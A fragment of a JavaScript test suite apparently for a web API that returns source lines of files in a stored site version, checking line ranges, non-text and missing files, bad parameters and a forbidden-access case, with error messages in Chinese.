    expect((await source('path=index.html')).json().data).toMatchObject({ first_line: 1 });
    expect((await source('path=index.html&line=9999')).json().data.lines.at(-1)).toBe('<p>100</p>');
    const notText = await source('path=img/a.png');
    expect(notText.statusCode).toBe(400);
    expect(notText.json().message).toContain('只能查看文本文件');
    const missing = await source('path=none.html');
    expect(missing.statusCode).toBe(404);
    expect(missing.json().message).toBe('该版本中没有这个文件');
    expect((await source('line=3')).statusCode).toBe(400);
    expect((await source('path=index.html&line=0')).statusCode).toBe(400);
    expect((await source('path=index.html', owner.token)).statusCode).toBe(403);
  });
});
